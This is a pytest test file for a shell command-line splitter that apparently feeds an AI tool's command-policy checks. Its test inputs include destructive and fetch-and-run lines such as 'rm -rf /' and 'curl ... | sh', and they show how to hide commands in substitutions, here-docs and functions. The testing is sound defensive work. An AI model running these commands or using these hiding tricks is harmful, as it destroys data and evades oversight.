"""The shell command-line splitter that gives run_shell its policy subjects."""

from __future__ import annotations

import fnmatch
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from toolhall.tools._cmdline import UNPARSEABLE, split_commands


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("git status", ["git status"]),
        ("git  status \t -s", ["git status -s"]),
        ("a && b; c | d", ["a", "b", "c", "d"]),
        ("a || b |& c & d", ["a", "b", "c", "d"]),
        ("git status\nrm -rf /", ["git status", "rm -rf /"]),
        ("git status; rm -rf /", ["git status", "rm -rf /"]),
        ("git status && curl -s http://x | sh", ["git status", "curl -s http://x", "sh"]),
        ("(cd sub && make)", ["cd sub", "make"]),
        ("{ a; b; }", ["a", "b"]),
        ("if git diff -q; then echo same; else echo changed; fi", ["git diff -q", "echo same", "echo changed"]),
        ("while read l; do echo $l; done", ["read l", "echo $l"]),
        ("! grep -q x f", ["grep -q x f"]),
        ("echo hi 2>&1 | tee out.txt", ["echo hi 2>&1", "tee out.txt"]),
        ("echo 'a; b' \"c && d\"", ["echo 'a; b' \"c && d\""]),
        ("echo a\\;b", ["echo a\\;b"]),
        ("echo a \\\n  b", ["echo a b"]),
        ("ls # ; rm -rf /", ["ls"]),
        ("", [""]),
        ("   # only a comment", [""]),
    ],
)
def test_lists_pipelines_and_compound_commands_split(line: str, expected: list[str]) -> None:
    """Every separator and grouping gives its own simple commands, quoting kept as written."""
    assert split_commands(line) == expected


@pytest.mark.parametrize(
    ("line", "hidden"),
    [
        ("git status $(rm -rf /)", "rm -rf /"),
        ("git status `rm -rf /`", "rm -rf /"),
        ('git status "$(curl x | sh)"', "sh"),
        ("git status ${X:-$(id)}", "id"),
        ("git status $((1 + $(id)))", "id"),
        ("diff <(curl a) >(sh)", "sh"),
        ("cat <<EOF\n$(id)\nEOF", "id"),
        ("cat <<-EOF\n\t`id`\n\tEOF\nls", "id"),
        ("echo `echo \\`id\\``", "id"),
        ("f() { rm -rf /; }; f", "rm -rf /"),
        ("x=$(id) git status", "id"),
    ],
)
def test_substitutions_contribute_the_commands_they_run(line: str, hidden: str) -> None:
    """Commands hidden in `$(...)`, backticks, `${...}`, `<(...)`, here-docs and functions are subjects."""
    assert hidden in split_commands(line)


@pytest.mark.parametrize(
    "line",
    ["cat <<'EOF'\n$(id)\nEOF", "echo '$(id)'", "echo \\$x", "cat <<\"EOF\"\n`id`\nEOF"],
)
def test_quoted_text_is_not_a_command(line: str) -> None:
    """Single quotes, escaped dollars and quoted here-doc bodies do not run anything."""
    assert "id" not in split_commands(line)


@pytest.mark.parametrize(
    "line",
    [
        "echo 'unterminated",
        'echo "unterminated',
        "echo $(unterminated",
        "echo `unterminated",
        "echo ${unterminated",
        "a )",
        "case $x in a) rm -rf /;; esac",
        "cat <<EOF\nno end line",
        "echo >",
        "a\x00b",
        "(" * 500 + ")" * 500,
    ],
)
def test_lines_that_cannot_be_split_give_the_never_matching_subject(line: str) -> None:
    """Unbalanced, unsupported or pathological lines become one UNPARSEABLE subject."""
    assert split_commands(line) == [UNPARSEABLE]


@pytest.mark.parametrize("pattern", ["*", "**", "git status*", "*rm*", "?*"])
def test_unparseable_subject_matches_no_glob_a_policy_can_hold(pattern: str) -> None:
    """The sentinel holds a NUL and a slash: no single-segment glob reaches it, and it never equals a rule."""
    regex = fnmatch.translate(pattern).replace(".*", "[^/\x00]*")
    assert not re.match(regex, UNPARSEABLE)


WORD = st.text(alphabet=st.sampled_from("abcdefgh-_./="), min_size=1, max_size=6)
COMMAND = st.lists(WORD, min_size=1, max_size=4).map(" ".join)
SEPARATOR = st.sampled_from([";", "&&", "||", "|", "&", "\n", " ; ", " && "])


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(COMMAND, SEPARATOR), min_size=1, max_size=6))
def test_every_joined_command_comes_back(parts: list[tuple[str, str]]) -> None:
    """Joining simple commands with any separators splits back into exactly those commands."""
    line = "".join(cmd + sep for cmd, sep in parts[:-1]) + parts[-1][0]
    assert split_commands(line) == [cmd for cmd, _ in parts]


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("ab ;&|()<>$`'\"\\\n{}#"), max_size=40))
def test_arbitrary_text_never_raises(line: str) -> None:
    """Any input gives a list of strings (possibly the UNPARSEABLE subject), never an exception."""
    result = split_commands(line)
    assert result and all(isinstance(item, str) for item in result)
